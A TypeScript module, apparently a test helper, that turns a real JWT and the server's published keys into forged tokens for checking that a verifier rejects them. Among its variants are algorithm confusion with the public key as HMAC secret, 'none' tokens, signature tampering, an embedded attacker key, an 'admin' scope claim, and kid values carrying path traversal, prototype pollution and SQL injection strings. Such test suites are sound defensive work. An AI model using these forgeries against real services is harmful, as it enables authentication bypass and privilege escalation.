/** JWTs made from a real one by somebody who knows all that is public. */
import { createHmac, createPublicKey, generateKeyPairSync, sign, type webcrypto } from 'node:crypto'

const attacker = generateKeyPairSync('ec', { namedCurve: 'P-256' })
const attackerRsa = generateKeyPairSync('rsa', { modulusLength: 2048 })

const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'

interface PublishedKey extends webcrypto.JsonWebKey {
  readonly kid: string
}

function encoded(value: unknown): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url')
}

function decoded(part: string): Record<string, unknown> {
  return JSON.parse(Buffer.from(part, 'base64url').toString())
}

/** `keys` are those that the server publishes. */
export function createForgedJwts(jwt: string, keys: readonly PublishedKey[]): readonly string[] {
  const [header = '', claims = '', signature = ''] = jwt.split('.')
  const head = decoded(header)
  const body = decoded(claims)
  const signed = (changes: object, payload = claims) => {
    const input = `${encoded({ ...head, ...changes })}.${payload}`
    const key = { key: attacker.privateKey, dsaEncoding: 'ieee-p1363' } as const
    const made =
      head.alg === 'RS256'
        ? sign('sha256', Buffer.from(input), attackerRsa.privateKey)
        : sign('sha256', Buffer.from(input), key)
    return `${input}.${made.toString('base64url')}`
  }
  const published = keys.filter(({ kid }) => kid === head.kid)
  const hmacs = published.flatMap((key) => {
    const publicKey = createPublicKey({ key, format: 'jwk' })
    const pem = String(publicKey.export({ format: 'pem', type: 'spki' }))
    const der = publicKey.export({ format: 'der', type: 'spki' })
    return [pem, pem.trim(), der, JSON.stringify(key), ''].map((secret) => {
      const input = `${encoded({ ...head, alg: 'HS256' })}.${claims}`
      return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`
    })
  })
  const none = encoded({ ...head, alg: 'none' })
  const later = encoded({ ...body, exp: Number(body.exp) + 1, scope: 'admin' })
  // The bits of the last character that stand for nothing: another spelling of the same signature.
  const last = ALPHABET.indexOf(signature.at(-1) ?? 'A')
  return [
    ...hmacs,
    `${none}.${claims}.`,
    `${none}.${claims}`,
    `${none}.${claims}.${signature}`,
    `${header}.${claims}.`,
    `${header}.${claims}`,
    `${header}.${later}.${signature}`,
    `${header}.${claims}.${Buffer.alloc(Buffer.from(signature, 'base64url').length).toString('base64url')}`,
    `${header}.${claims}.${signature.slice(0, -1)}${ALPHABET[last ^ 1]}`,
    `${header}.${claims}.${signature}==`,
    `${header}.${claims}.${signature}.`,
    `${header}..${signature}`,
    `.${claims}.${signature}`,
    `${encoded({ ...head, kid: 'other' })}.${claims}.${signature}`,
    signed({}),
    signed({}, later),
    signed({ jwk: attacker.publicKey.export({ format: 'jwk' }) }),
    signed({ kid: '../../dev/null' }),
    signed({ kid: '__proto__' }),
    signed({ kid: ["x' or 1=1 --"] }),
    signed({ crit: ['exp'] }),
    JSON.stringify({ protected: header, payload: claims, signature }),
  ]
}
